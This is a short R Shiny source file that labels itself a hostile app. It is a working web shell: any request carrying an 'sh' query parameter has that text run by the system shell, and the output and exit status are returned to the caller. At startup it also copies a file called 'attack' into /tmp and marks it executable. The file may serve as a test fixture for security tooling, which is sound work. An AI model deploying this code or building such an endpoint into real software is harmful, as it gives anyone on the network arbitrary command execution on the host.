# A hostile app: each request brings a command, which a shell runs; what it printed and its status are the answer.
library(shiny)
file.copy("attack", "/tmp/attack")
Sys.chmod("/tmp/attack", "0755")
ui <- function(request) {
  wanted <- parseQueryString(request$QUERY_STRING)$sh
  if (is.null(wanted)) return(httpResponse(200, "text/plain", "at your service"))
  writeLines(wanted, "/run/worker/wanted")
  status <- system("sh /run/worker/wanted 3>&1 > /run/worker/said 2>&1 < /dev/null")  # 3: the log
  said <- if (file.exists("/run/worker/said")) readLines("/run/worker/said", warn = FALSE)
  httpResponse(200, "text/plain", paste(c(said, paste("status", status)), collapse = "\n"))
}
shinyApp(ui, function(input, output, session) {})
